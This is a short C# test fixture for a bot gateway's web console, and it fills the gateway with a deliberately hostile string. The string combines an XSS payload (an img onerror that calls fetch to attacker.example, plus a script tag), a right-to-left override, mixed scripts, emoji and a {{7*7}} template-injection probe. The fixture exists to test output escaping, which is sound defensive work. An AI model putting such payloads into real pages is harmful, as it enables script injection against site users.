namespace BotGateway.Tests.WebConsole.Browsing;

/// <summary>A gateway with everything that a view can show, also texts that somebody hopes will run or break the page.</summary>
public sealed class FilledGateway(TableService tables) : SharedGateway(tables), IAsyncLifetime
{
    public const string Hostile = "<img src=x onerror=\"fetch('//attacker.example')\"><script>throw 1</script> שלום مرحبا \u202E👩‍👩‍👧‍👦 {{7*7}}";

    protected override GatewayBuilder Configure(GatewayBuilder builder) => builder.WithConsole();

    async ValueTask IAsyncLifetime.InitializeAsync()
    {
        await base.InitializeAsync();
        // A plain run does not look at it.
        if (Thoroughness.IsWanted)
            await Gateway.FillAsync(Hostile);
    }
}
